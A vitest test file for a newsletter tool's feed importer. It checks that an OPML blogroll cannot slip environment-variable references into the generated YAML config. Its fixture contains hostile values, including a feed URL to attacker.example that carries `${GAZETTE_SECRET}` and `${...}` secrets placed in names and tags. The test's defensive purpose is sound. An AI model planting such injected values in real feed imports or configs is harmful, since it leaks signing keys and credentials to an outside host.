import { describe, expect, it } from "vitest";
import { addFeeds } from "../../src/config/add-feeds.js";
import { parseConfigText } from "../../src/config/index.js";
import { parseOpml } from "../../src/ingest/parse/opml.js";

const CONFIG = `newsletter:
  name: Test
  baseUrl: https://news.example.com
  postalAddress: 1 Test Street
sender:
  from: Test <digest@news.example.com>
feeds:
  - url: https://known.example/feed
lists:
  - id: weekly
    name: Weekly
`;

// A shared blogroll whose every field tries to read the environment when the config loads.
const HOSTILE = `<opml version="2.0"><head/><body>
  <outline text="Leaky" xmlUrl="https://attacker.example/feed.xml?k=\${GAZETTE_SECRET:-}"/>
  <outline text="\${DATABASE_URL}" xmlUrl="https://named.example/feed"/>
  <outline text="Tagged" category="news,&#36;&#123;SMTP_PASSWORD}" xmlUrl="https://tagged.example/feed"/>
  <outline text="\${GAZETTE_SECRET}">
    <outline text="In a folder" xmlUrl="https://folder.example/feed"/>
  </outline>
  <outline text="Cheap $5 deals" xmlUrl="https://fine.example/feed?price=$5"/>
</body></opml>`;

const ENV = {
  GAZETTE_SECRET: "s3cret-signing-key",
  DATABASE_URL: "postgres://u:pw@db/prod",
  SMTP_PASSWORD: "smtp-pass",
};

describe("an imported blogroll never becomes an instruction in the config", () => {
  it("refuses ${ in URLs, names and tags with the reason, and adds the rest literally", () => {
    const { text, added, refused } = addFeeds(CONFIG, parseOpml(HOSTILE).feeds);
    expect(added.map((feed) => feed.url)).toEqual(["https://fine.example/feed?price=$5"]);
    expect(refused.map((r) => [r.feed.url, r.reason])).toEqual([
      ["https://attacker.example/feed.xml?k=${GAZETTE_SECRET:-}", expect.stringMatching(/url/)],
      ["https://named.example/feed", expect.stringMatching(/name/)],
      ["https://tagged.example/feed", expect.stringMatching(/tag/)],
      ["https://folder.example/feed", expect.stringMatching(/tag/)],
    ]);
    for (const { reason } of refused) expect(reason).toMatch(/environment variable/);
    const config = parseConfigText(text, "gazette.yaml", ENV);
    const loaded = JSON.stringify(config);
    for (const secret of ["s3cret", "pw@db", "smtp-pass"]) expect(loaded).not.toContain(secret);
    expect(config.feeds.map((feed) => feed.name)).toEqual([undefined, "Cheap $5 deals"]);
  });

  it("writes what it adds so that the loader reads it back literally", () => {
    const feeds = [{ url: "https://a.example/feed", name: "Fees: $$ and $", tags: ["$x"] }];
    const { text } = addFeeds(CONFIG, feeds);
    expect(parseConfigText(text, "gazette.yaml", ENV).feeds[1]).toMatchObject(feeds[0] ?? {});
  });
});
